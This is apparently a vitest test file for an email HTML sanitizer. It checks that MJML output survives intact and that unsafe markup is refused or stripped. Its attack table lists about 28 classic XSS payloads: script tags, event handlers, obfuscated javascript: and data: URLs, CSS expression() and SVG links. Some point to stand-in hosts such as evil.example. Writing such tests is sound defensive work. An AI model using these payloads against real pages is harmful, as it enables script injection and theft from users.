import mjml2html from 'mjml';
import { describe, expect, it } from 'vitest';
import { checkContent, sanitizeContent } from './sanitize-content.ts';

const EMAIL_MJML = `<mjml>
  <mj-head><mj-title>Hello</mj-title><mj-style>.big { font-size: 20px; }</mj-style></mj-head>
  <mj-body background-color="#f4f1ec">
    <mj-section background-color="#1d3557"><mj-column>
      <mj-text color="#ffffff" font-size="28px" css-class="big">Hi {{first_name}}, welcome to {{site_name}}</mj-text>
      <mj-button href="https://example.com/offer?x=1&amp;y=2" background-color="#e63946">See the offer</mj-button>
      <mj-image src="https://example.com/logo.png" alt="Logo" width="120px" />
      <mj-text><a href="mailto:hello@example.com">Write to us</a> or <a href="tel:+34600000000">call</a></mj-text>
    </mj-column></mj-section>
  </mj-body>
</mjml>`;

describe('checkContent with real MJML output', () => {
  const html = mjml2html(EMAIL_MJML).html;

  it('accepts it and keeps its layout, styles, links and merge fields', () => {
    const checked = checkContent(html);
    expect(checked.ok).toBe(true);
    const out = checked.ok ? checked.html : '';
    expect(out).toContain('Hi {{first_name}}, welcome to {{site_name}}');
    expect(out).toContain('href="https://example.com/offer?x=1&amp;y=2"');
    expect(out).toContain('src="https://example.com/logo.png"');
    expect(out).toContain('href="mailto:hello@example.com"');
    expect(out).toContain('href="tel:+34600000000"');
    expect(out).toMatch(/<table[^>]+role="presentation"/);
    expect(out).toContain('bgcolor="#e63946"');
    expect(out).toContain('background:#e63946;color:#ffffff');
    expect(out).toContain('@media only screen and (min-width:480px)');
    expect(out).toContain('.big { font-size: 20px; }');
    expect(out).toContain('<meta name="viewport" content="width=device-width, initial-scale=1" />');
  });

  it('drops what is remote or Outlook-only: font links, @import and conditional comments', () => {
    const checked = checkContent(html);
    const out = checked.ok ? checked.html : '';
    expect(html).toContain('fonts.googleapis.com');
    expect(out).not.toContain('fonts.googleapis.com');
    expect(out).not.toContain('<!--');
    expect(out).not.toContain('<link');
  });

  it('keeps merge placeholders used as links', () => {
    const checked = checkContent('<a href="{{unsubscribe_url}}">Unsubscribe</a>');
    expect(checked).toEqual({ ok: true, html: '<a href="{{unsubscribe_url}}">Unsubscribe</a>' });
  });

  it('keeps an image given as data:image', () => {
    const img = '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot" />';
    expect(checkContent(img)).toEqual({ ok: true, html: img });
  });
});

describe('checkContent refuses what is unsafe, naming it', () => {
  const attacks: [string, string, string][] = [
    ['a script element', '<p>Hi</p><script>alert(1)</script>', '<script>'],
    ['a script in upper case', '<SCRIPT SRC=//xss.example/xss.js></SCRIPT>', '<script>'],
    ['a split script', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script>'],
    ['an iframe', '<iframe src="https://example.com"></iframe>', '<iframe>'],
    ['an object', '<object data="x.swf"></object>', '<object>'],
    ['an embed', '<embed src="x.swf">', '<embed>'],
    ['a form', '<form action="https://evil.example"><input name="p"></form>', '<form>'],
    ['a base', '<base href="https://evil.example/">', '<base>'],
    ['a refresh', '<META HTTP-EQUIV="refresh" CONTENT="0;url=https://evil.example">', '<meta http-equiv="refresh">'],
    ['an onerror handler', '<img src=x onerror=alert(1)>', 'onerror attribute'],
    ['an onload handler on body', '<body onload=alert(1)>', 'onload attribute'],
    ['a mouse handler in mixed case', '<a href="#" OnMouseOver="alert(1)">x</a>', 'onmouseover attribute'],
    ['a javascript link', '<a href="javascript:alert(1)">x</a>', 'javascript: URL in href'],
    [
      'an encoded javascript link',
      '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
      'javascript: URL in href',
    ],
    [
      'a hex-encoded link without semicolons',
      '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A">x</a>',
      'javascript: URL in href',
    ],
    ['a link with a tab inside', '<a href="jav&#x09;ascript:alert(1);">x</a>', 'javascript: URL in href'],
    ['a link with a leading space', '<a href=" &#14;  javascript:alert(1)">x</a>', 'javascript: URL in href'],
    ['a vbscript link', '<a href="vbscript:msgbox(1)">x</a>', 'vbscript: URL in href'],
    ['a data link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', 'data: URL in href'],
    ['a data image source that is html', '<img src="data:text/html,<script>alert(1)</script>">', 'data: URL in src'],
    [
      'a table background script',
      '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
      'javascript: URL in background',
    ],
    ['a style url script', '<div style="background-image: url(javascript:alert(1))">x</div>', 'javascript: URL in CSS'],
    [
      'an escaped style url script',
      '<div style="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
      'javascript: URL in CSS',
    ],
    ['a CSS expression split by a comment', '<img style="xss:expr/*XSS*/ession(alert(1))">', 'CSS expression()'],
    [
      'a style element with a script url',
      '<style>li { list-style-image: url("javascript:alert(1)"); }</style>',
      'javascript: URL in CSS',
    ],
    [
      'a style element with a data url that is not an image',
      '<style>.a { background: url(data:text/html,x) }</style>',
      'data: URL in CSS',
    ],
    ['a script hidden in an Outlook conditional comment', '<!--[if mso]><script>alert(1)</script><![endif]-->', '<script>'],
    [
      'an svg with a script link',
      '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
      'javascript: URL in xlink:href',
    ],
  ];
  it.each(attacks)('%s', (_name, html, detail) => {
    expect(checkContent(html)).toEqual({ ok: false, detail });
  });
});

describe('sanitizeContent (for showing and sending what was stored before or came from elsewhere)', () => {
  it('removes scripts, handlers, unsafe links and elements outside the allowlist', () => {
    const out = sanitizeContent(
      '<p onclick="x()">Hi <b>there</b></p><script>alert(1)</script><a href="javascript:alert(1)">a</a>' +
        '<a href="ftp://example.com/f">f</a><input value="x"><div style="width:expression(alert(1))">d</div>',
    );
    expect(out).toBe('<p>Hi <b>there</b></p><a>a</a><a>f</a><div>d</div>');
  });

  it('removes a style element with unsafe CSS and the @import of a safe one', () => {
    expect(sanitizeContent('<style>a{background:url(javascript:x)}</style><p>x</p>')).toBe('<p>x</p>');
    expect(sanitizeContent('<style>@import url(https://fonts.example/f.css); p { color: red }</style>')).toBe(
      '<style> p { color: red }</style>',
    );
  });

  it('keeps a meta charset but not a refresh', () => {
    expect(sanitizeContent('<meta charset="utf-8"><meta http-equiv="refresh" content="0;url=https://e.example">')).toBe(
      '<meta charset="utf-8" /><meta content="0;url=https://e.example" />',
    );
  });
});
